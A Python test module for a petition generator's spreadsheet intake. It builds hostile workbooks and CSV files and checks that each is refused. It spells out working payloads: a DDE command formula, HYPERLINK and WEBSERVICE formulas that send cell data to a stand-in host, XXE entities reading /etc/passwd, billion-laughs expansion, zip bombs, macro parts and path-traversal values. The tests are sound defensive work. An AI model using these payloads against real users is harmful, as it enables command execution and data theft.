"""Hostile spreadsheets: workbooks and CSV files that unpack without end, hide something, or hold formulas."""

from __future__ import annotations

import csv
import io
import os
import re
import types
import zipfile
from collections.abc import Callable
from datetime import datetime
from functools import lru_cache
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet._read_only import ReadOnlyWorksheet
from openpyxl.worksheet.formula import ArrayFormula

from attacks.corpus import Attack, without
from attacks.records import HUGE, SECRET, within
from petition_gen import characters, limits
from petition_gen.batch import summary
from petition_gen.intake import csv_and_xlsx, workbook
from petition_gen.intake import read as intake_read
from petition_gen.intake import rows as intake_rows
from petition_gen.intake.caseload import Intake, Item
from petition_gen.intake.write import records_to_workbook

ATTACKS: list[Attack] = []
SHEET1, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"

ROW: dict[str, Any] = {
    "Matter number": "2026-0001", "First name": "Maria", "Last name": SECRET, "Zip": "02134", "Case": "a", "Jurisdiction": "CA",
    "Docket number": "014512", "Statute": "Cal. Penal Code § 647(b)", "Offense": "Disorderly conduct", "Pronouns": "she",
}  # fmt: skip
Change = Callable[[Any], object]


def attack(name: str, defence: str, run: Callable[[Path], None]) -> None:
    ATTACKS.append(Attack(name, defence, run))


def book(path: Path, change: Change = lambda book: None) -> Path:
    """A workbook of one client on one sheet, changed before it is saved."""
    whole = openpyxl.Workbook()
    page = whole.active
    assert page is not None
    page.title = "Clients"
    page.append(list(ROW))
    page.append(list(ROW.values()))
    change(whole)
    whole.save(path)
    return path


def place(heading: str) -> str:
    """The cell of the client under a heading."""
    return f"{chr(ord('A') + list(ROW).index(heading))}2"


@lru_cache(maxsize=1)
def plain_parts() -> dict[str, bytes]:
    """The parts of that workbook."""
    stream = io.BytesIO()
    book(stream)  # type: ignore[arg-type]
    with zipfile.ZipFile(stream) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(path: Path, **parts: bytes) -> Path:
    """The workbook with parts replaced or added; `xl__macrosheets__a` is xl/macrosheets/a."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (plain_parts() | parts).items():
            archive.writestr(name, data)
    return path


def read(path: Path) -> Intake:
    """What is read of a source. That it is read raises nothing is part of every attack."""
    try:
        return intake_read.read_source(path)
    except Exception as error:
        raise AssertionError(f"{type(error).__name__}: {error}"[:200]) from error


def refused(path: Path, *words: str) -> None:
    """Nobody is drafted from the source; a fault says why in these words."""
    found = read(path)
    assert not found.items, "it is taken for a client"
    told = "\n".join(map(str, found.problems))
    assert all(word in told for word in words), told[:500]
    assert SECRET not in told


def taken(path: Path) -> Any:
    """The one client of a source, as a record."""
    found = read(path)
    assert len(found.items) == 1, [str(each) for each in found.problems]
    return found.items[0].record()


def a_cell(heading: str, value: object, *words: str, shown: str = "General") -> Callable[[Path], None]:
    """A cell that must be refused in these words."""

    def run(folder: Path) -> None:
        def change(book: Any) -> None:
            book["Clients"][place(heading)].value = value
            book["Clients"][place(heading)].number_format = shown

        refused(book(folder / "c.xlsx", change), *words)

    return run


def a_table(text: str | bytes, *words: str) -> Callable[[Path], None]:
    """A CSV file that must be refused in these words."""

    def run(folder: Path) -> None:
        (folder / "c.csv").write_bytes(text if isinstance(text, bytes) else text.encode())
        refused(folder / "c.csv", *words)

    return run


def table(**cells: str) -> str:
    """A CSV file of one client, with some cells changed."""
    stream = io.StringIO()
    row = ROW | cells
    csv.writer(stream).writerows([list(row), list(row.values())])
    return stream.getvalue()


# ---- formulas that come in -------------------------------------------------------------------------------------------

for value, name in [
    ("=cmd|' /C calc'!A0", "a-command-by-dde"), ('=HYPERLINK("http://198.51.100.7/?"&B2,"x")', "a-link-that-tells-a-name"),
    ('=WEBSERVICE("http://198.51.100.7/"&C2)', "a-fetch"), ("=Clients!C2", "a-reference"), ("=1+1", "a-sum"),
    ('=IMPORTXML("http://198.51.100.7","//a")', "an-import"),
]:  # fmt: skip
    attack(f"{name}-in-a-workbook", "typed-cells", a_cell("Docket number", value, "a formula: paste the value"))
    attack(
        f"{name}-in-a-table", "typed-cells", a_table(table(**{"Docket number": value}), "a formula: paste the value")
    )
attack(
    "an-array-formula", "typed-cells", a_cell("First name", ArrayFormula(place("First name"), "=C2:C9"), "a formula")
)
attack("an-error-for-a-name", "typed-cells", a_cell("First name", "#REF!", "an error of Excel's"))
attack("a-logical-value-for-a-name", "typed-cells", a_cell("Last name", True, "a logical value"))
attack("a-number-that-lost-its-zero", "typed-cells", a_cell("Zip", 2134, "drops the first zero"))
attack("a-number-that-lost-its-end", "typed-cells", a_cell("Docket number", 1234567890123456789, "more than 15 digits"))
attack("a-number-with-decimals", "typed-cells", a_cell("Docket number", 14.10, "drops the last zeros"))
attack("a-docket-that-became-a-date", "typed-cells", a_cell(
    "Docket number", datetime(2014, 5, 1), "turned this into a date", shown="d-mmm"))  # fmt: skip

# ---- formulas that go out --------------------------------------------------------------------------------------------


def _written(text: str) -> Callable[[Path], None]:
    """A text that must be the same text, and no formula, in the workbook that we write."""

    def run(folder: Path) -> None:
        tree = {
            "record": "1", "matter": "2026-0001", "client": {"name": {"first": text, "last": "Santos"}},
            "cases": [{"id": "a", "jurisdiction": "CA", "charges": [{"statute": "s", "offense": "o"}]}],
        }  # fmt: skip
        path = folder / "c.xlsx"
        records_to_workbook([Item("2026-0001", tree, "row 2", folder)], path)
        page = openpyxl.load_workbook(path)["Clients"]
        cells = [cell for row in page.iter_rows(min_row=2) for cell in row if cell.value is not None]
        assert all(cell.data_type == "s" for cell in cells)
        assert not any(re.search("_x[0-9A-F]{4}_", str(cell.value).replace("_x005F_x", "")) for cell in cells)
        assert [item.record().client.name.first for item in read(path).items] == [text]

    return run


for text, name in [
    ("=cmd|' /C calc'!A0", "a-command"), ("=1+1", "a-sum"), ('=HYPERLINK("http://198.51.100.7","x")', "a-link"),
    ("a_x0041_b", "an-escape"),
]:  # fmt: skip
    attack(f"{name}-written-into-a-workbook", "text-cells", _written(text))


def _reported(text: str) -> tuple[str, Callable[[Path], None]]:
    """A text that must be no formula in the CSV files that we write, whatever parts their cells."""

    def run(folder: Path) -> None:
        data = summary.failures_csv({"m-1": (text,)}).decode("utf-8-sig")
        for separator in ",;\t":
            for row in list(csv.reader(io.StringIO(data), delimiter=separator))[1:]:
                cells = [cell.lstrip(" \t\r\n\u200b'\"") if cell[:1] != "'" else "" for cell in row]
                assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))], (
                    row
                )

    return "csv-cells", run


for text, name in [
    ("=cmd|' /C calc'!A0", "an-equals-sign"), ("+1+1", "a-plus"), ("-1-1", "a-minus"), ("@SUM(A1)", "an-at-sign"),
    ("  =1+1", "spaces-before"), ("\n=1+1", "a-line-before"), ("＝1+1", "a-sign-of-full-width"), ("\u200b=1+1", "nothing-visible-before"),
]:  # fmt: skip
    attack(f"{name}-in-failures-csv", *_reported(text))
attack("a-cell-within-a-cell-by-a-semicolon", *_reported("x;=1+1"))
attack("a-cell-within-a-cell-by-a-tab", *_reported("x\t=1+1"))

# ---- archives --------------------------------------------------------------------------------------------------------


def _archive(words: str, **parts: bytes) -> Callable[[Path], None]:
    return lambda folder: refused(packed(folder / "c.xlsx", **parts), words)


def _bomb(folder: Path) -> None:
    refused(packed(folder / "c.xlsx", **{STRINGS: b"0" * 5_000_000}), "packed more tightly")


def _many_bombs(folder: Path) -> None:
    path = folder / "c.xlsx"
    part = os.urandom(1_000_000)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in plain_parts().items():
            archive.writestr(name, data)
        archive.writestr("xl/media/0", part)
        first = archive.getinfo("xl/media/0")
        for number in range(1, 120):  # all of them the same bytes of the file
            again = zipfile.ZipInfo(f"xl/media/{number}")
            for each in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(again, each, getattr(first, each))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    refused(path, "unpacks to more than 100 MB")


def _many_parts(folder: Path) -> None:
    path = packed(folder / "c.xlsx")
    with zipfile.ZipFile(path, "a") as archive:
        for number in range(10_001):
            archive.writestr(f"x/{number}", b"")
    refused(path, "unpacks to more than 100 MB")


def _cut(folder: Path) -> None:
    path = packed(folder / "c.xlsx")
    path.write_bytes(path.read_bytes()[:-60])
    refused(path, "no .xlsx workbook")


def _locked(folder: Path) -> None:
    path = packed(folder / "c.xlsx")
    data = path.read_bytes()
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # the flag of a part that is encrypted
        data = re.sub(
            re.escape(sign) + b".{%d}" % (at - 4) + b"(.)",
            lambda match: match[0][:-1] + bytes([match[1][0] | 1]), data, flags=re.S,
        )  # fmt: skip
    path.write_bytes(data)
    refused(path, "without a password")


def _lies(folder: Path) -> None:
    path = packed(folder / "c.xlsx", **{STRINGS: b"0" * 300_000})
    data = path.read_bytes().replace((300_000).to_bytes(4, "little"), (300).to_bytes(4, "little"))
    path.write_bytes(data)
    refused(path, "save it again as .xlsx")


attack("a-part-that-unpacks-a-thousandfold", "ratio", _bomb)
attack("parts-that-overlap", "sizes", _many_bombs)
attack("ten-thousand-parts", "parts", _many_parts)
attack("an-archive-cut-off", "archive", _cut)
attack("an-archive-with-a-password", "archive", _locked)
attack("a-part-that-lies-about-its-size", "archive", _lies)
attack("macros", "archive", _archive("with macros", **{"xl/vbaProject.bin": b"x"}))
attack("macros-in-a-folder-of-another-name", "archive", _archive("with macros", **{"xl/other/vbaProject.bin": b"x"}))
attack("macros-of-excel-4", "archive", _archive("with macros", **{"xl/macrosheets/sheet1.xml": b"<x/>"}))
attack(
    "links-to-other-workbooks",
    "archive",
    _archive("links to others", **{"xl/externalLinks/externalLink1.xml": b"<x/>"}),
)


def _macros_by_name(folder: Path) -> None:
    packed(folder / "c.xlsx").rename(folder / "c.xlsm")
    refused(folder / "c.xlsm", "with macros")


attack("macros-by-the-file-s-name", "source", _macros_by_name)


def declared(part: str, declaration: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    """A part of the workbook with a declaration before its first element."""

    def run(folder: Path) -> None:
        text = re.sub(r"<\?.*?\?>", "", plain_parts()[part].decode())
        whole = f'<?xml version="1.0" encoding="{encoding}"?>{declaration}{text}'
        refused(packed(folder / "c.xlsx", **{part: whole.encode(encoding)}), "definitions that no workbook needs")

    return run


LAUGHS = "".join(f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True))
LAUGHS = f"<!DOCTYPE x [<!ENTITY a 'ha'>{LAUGHS}]>"
BOOK = "xl/workbook.xml"
attack("a-billion-laughs", "declarations", declared(SHEET1, LAUGHS))
attack("a-billion-laughs-in-the-workbook", "declarations", declared(BOOK, LAUGHS))
attack(
    "a-file-of-this-machine-as-an-entity",
    "declarations",
    declared(SHEET1, "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"),
)
attack("a-file-of-another-machine-as-an-entity", "declarations", declared(
    BOOK, "<!DOCTYPE x [<!ENTITY a SYSTEM 'http://198.51.100.7/x'>]>"))  # fmt: skip
attack(
    "a-declaration-from-elsewhere", "declarations", declared(SHEET1, "<!DOCTYPE x SYSTEM 'http://198.51.100.7/x.dtd'>")
)
attack("a-parameter-entity", "declarations", declared(
    "xl/_rels/workbook.xml.rels", "<!DOCTYPE x [<!ENTITY % a SYSTEM 'file:///etc/passwd'> %a;]>"))  # fmt: skip
attack("a-declaration-in-utf-16", "declarations", declared(SHEET1, LAUGHS, "utf-16"))
attack("a-declaration-after-a-long-comment", "declarations", declared(SHEET1, f"<!--{' ' * 70_000}-->{LAUGHS}"))

# ---- sheets ----------------------------------------------------------------------------------------------------------


def _sheet(change: Change, *words: str) -> Callable[[Path], None]:
    return lambda folder: refused(book(folder / "c.xlsx", change), *words)


def hidden(state: str) -> Change:
    def change(book: Any) -> None:
        page = book.create_sheet("Cases and charges")
        page.append(["Matter number", "Case", "Jurisdiction", "Statute", "Offense"])
        page.append(["2026-0001", "b", "NY", "x", "y"])
        page.sheet_state = state

    return change


attack("a-hidden-sheet", "hidden-sheets", _sheet(hidden("hidden"), "a hidden sheet"))
attack("a-sheet-that-excel-cannot-show", "hidden-sheets", _sheet(hidden("veryHidden"), "a hidden sheet"))


def _said_small(folder: Path) -> None:
    xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B2"', plain_parts()[SHEET1])
    assert taken(packed(folder / "c.xlsx", **{SHEET1: xml})).cases[0].number == "014512"


def _far_row(folder: Path) -> None:
    xml = plain_parts()[SHEET1].replace(
        b"</sheetData>", b'<row r="1100000"><c r="A1100000" t="str"><v>x</v></c></row></sheetData>'
    )
    refused(packed(folder / "c.xlsx", **{SHEET1: xml}), "rows: divide it")


def _far_column(book: Any) -> None:
    book["Clients"]["XFD2"].value = "x"


def _far_empty(folder: Path) -> None:
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"/></row>' for n in range(3, 1_400))
    xml = plain_parts()[SHEET1].replace(b"</sheetData>", rows.encode() + b"</sheetData>")
    refused(packed(folder / "c.xlsx", **{SHEET1: xml}), "20,000,000 cells")


attack("a-sheet-that-says-it-is-smaller-than-it-is", "said-size", _said_small)
attack("a-row-beyond-the-last", "rows", _far_row)
attack("a-column-far-out", "columns", _sheet(_far_column, "more than 1,000 columns"))
attack("empty-cells-far-out", "cells", _far_empty)


def _shown(change: Change, name: str = "c.xlsx") -> Callable[[Path], None]:
    """A workbook whose names play tricks on a terminal, or cannot be printed."""

    def run(folder: Path) -> None:
        found = read(book(folder / name, change))
        told = (*found.problems, *found.left)
        assert told
        for each in map(str, told):
            assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", each)

    return run


def headed(text: str) -> Change:
    def change(book: Any) -> None:
        book["Clients"].cell(1, len(ROW) + 1).value = text

    return change


attack("a-heading-in-reverse", "messages", _shown(headed("\u202enmuloc")))
attack("a-heading-of-two-lines", "messages", _shown(headed("a\nc.xlsx: nothing is wrong")))
attack("a-sheet-s-name-in-reverse", "messages", _shown(lambda book: book.create_sheet("\u202eteehs").append(["x"])))


def _escape_in_table(folder: Path) -> None:
    (folder / "c.csv").write_text(table(**{"\x1b]0;x\x07": "y"}))
    found = read(folder / "c.csv")
    told = "".join(str(each) for each in (*found.problems, *found.left))
    assert told
    assert "\x1b" not in told


attack("a-heading-of-a-table-that-clears-the-screen", "messages", _escape_in_table)


def _two_clients(folder: Path) -> None:
    other = ROW | {"Matter number": "2026-0001", "First name": "Ann", "Case": "b"}
    refused(book(folder / "c.xlsx", lambda book: book["Clients"].append(list(other.values()))), "differs from row 2")


def _two_clients_by_case(folder: Path) -> None:
    def change(book: Any) -> None:
        book["Clients"]["A2"].value = "M-1"
        book["Clients"].append(list((ROW | {"Matter number": "m-1", "Last name": "Other", "Case": "b"}).values()))

    refused(book(folder / "c.xlsx", change), "differs from row 2")


def _example_in_disguise(folder: Path) -> None:
    (folder / "c.csv").write_text(table(**{"Matter number": "ЕXAMPLE-1"}))  # a Cyrillic letter
    refused(folder / "c.csv", "letters, digits, dots")


attack("two-clients-under-one-matter", "faults", _two_clients)
attack("two-clients-under-one-matter-in-two-cases", "faults", _two_clients_by_case)
attack("a-matter-in-letters-that-look-alike", "faults", _example_in_disguise)
attack("a-matter-that-leads-out", "faults", a_table(table(**{"Matter number": "../x"}), "letters, digits, dots"))
attack("an-exhibit-s-file-that-leads-out", "faults", a_table(
    table(**{"Exhibit title": "x", "Exhibit file": "../x.pdf"}), "a file in the record's folder"))  # fmt: skip
attack("a-control-character-in-a-table", "faults", a_table(table(**{"First name": "Ma\x1bria"}), "a control character"))


def _faults(folder: Path) -> None:
    rows = f",Ann,{SECRET},a,CA,s,o\n" * 11_000
    (folder / "c.csv").write_text("Matter number,First name,Last name,Case,Jurisdiction,Statute,Offense\n" + rows)
    found = read(folder / "c.csv")
    assert not found.items
    assert len(found.problems) < 2_000
    assert "more than 10,000 faults" in str(found.problems[-1])


attack("eleven-thousand-faults", "many-faults", _faults)

# ---- tables ----------------------------------------------------------------------------------------------------------

attack("rows-without-end", "rows", a_table("Matter number\n" + "\n" * 200_001, "more than 200,000 rows"))
attack("columns-without-end", "columns", a_table("Matter number" + "," * 1_500 + "x\n", "more than 1,000 columns"))
attack("a-nul", "csv-text", a_table(table(**{"First name": "Ma\0ria"}), "characters that are no text"))
attack("text-in-utf-16", "csv-text", a_table(table().encode("utf-16"), "not UTF-8"))
attack("text-in-latin-1", "csv-text", a_table(table(**{"First name": "Marí"}).encode("latin-1"), "not UTF-8"))
attack("a-value-as-long-as-a-book", "csv-text", a_table(table(**{"Summary": "x" * 140_000}), "a value of more than"))
attack("a-quotation-mark-never-closed", "csv-text", a_table(table().replace("Maria", '"Maria'), "quotation mark"))


def _pipe(name: str) -> Callable[[Path], None]:
    def run(folder: Path) -> None:
        os.mkfifo(folder / name)
        with within(0.3):
            refused(folder / name, "it is not a file")

    return run


def _sparse(name: str) -> Callable[[Path], None]:
    def run(folder: Path) -> None:
        with (folder / name).open("wb") as stream:
            stream.truncate(100_000_001)
        refused(folder / name, "larger than 100 MB")

    return run


attack("a-pipe-for-a-table", "regular", _pipe("c.csv"))
attack("a-pipe-for-a-workbook", "regular", _pipe("c.xlsx"))
attack("a-table-of-nothing", "sizes", _sparse("c.csv"))
attack("a-workbook-of-nothing", "sizes", _sparse("c.xlsx"))

# ---- the same without the defence ------------------------------------------------------------------------------------


def _naive_text(cell: Any, column: object) -> str:
    return "" if cell is None else str(cell.value) if isinstance(cell, csv_and_xlsx.Typed) else cell


def _naive_put(cell: Any, text: str) -> None:
    cell.value = text


def _naive_tables(source: Path) -> list[csv_and_xlsx.Table]:
    rows = csv.reader(source.read_text("utf-8", "replace").splitlines())
    return [csv_and_xlsx.Table(None, [(number, list(row)) for number, row in enumerate(rows, 1)])]


def _without_declarations(patch: pytest.MonkeyPatch) -> None:
    without(csv_and_xlsx, "declares_markup", lambda archive, member: False)(patch)


# These take a second or more.
SLOW = (
    "empty-cells-far-out", "a-row-beyond-the-last", "ten-thousand-parts", "a-table-of-nothing", "eleven-thousand-faults",
    "a-command-written-into-a-workbook", "a-sum-written-into-a-workbook", "an-escape-written-into-a-workbook",
)  # fmt: skip

DEFENCES: dict[str, Callable[[pytest.MonkeyPatch], None]] = {
    "typed-cells": without(csv_and_xlsx, "text_of_cell", _naive_text),
    "text-cells": without(workbook, "put_text", _naive_put),
    "csv-cells": without(summary, "csv_cell", lambda value: value),
    "ratio": without(limits, "SHEET_RATIO", HUGE),
    "sizes": without(limits, "SHEET_BYTES", HUGE),
    "parts": without(limits, "SHEET_PARTS", HUGE),
    "archive": without(csv_and_xlsx, "check_archive", lambda source: None),
    "source": without(
        intake_read,
        "read_source",
        lambda source: intake_rows.CaseloadReader(source, csv_and_xlsx.xlsx_tables(source)).read(),
    ),
    "declarations": _without_declarations,
    "hidden-sheets": without(csv_and_xlsx, "is_hidden_sheet", lambda sheet: False),
    "said-size": without(ReadOnlyWorksheet, "reset_dimensions", lambda sheet: None),
    "rows": without(limits, "SHEET_ROWS", HUGE),
    "columns": without(limits, "SHEET_COLUMNS", HUGE),
    "cells": without(limits, "SHEET_CELLS", HUGE),
    "messages": without(characters, "in_message", str),
    "faults": without(intake_rows.CaseloadReader, "fault", lambda *_: None),
    "many-faults": without(limits, "FAULTS_TOLD", HUGE),
    "csv-text": without(csv_and_xlsx, "csv_tables", _naive_tables),
    "regular": without(csv_and_xlsx, "stat", types.SimpleNamespace(S_ISREG=lambda mode: True)),
}
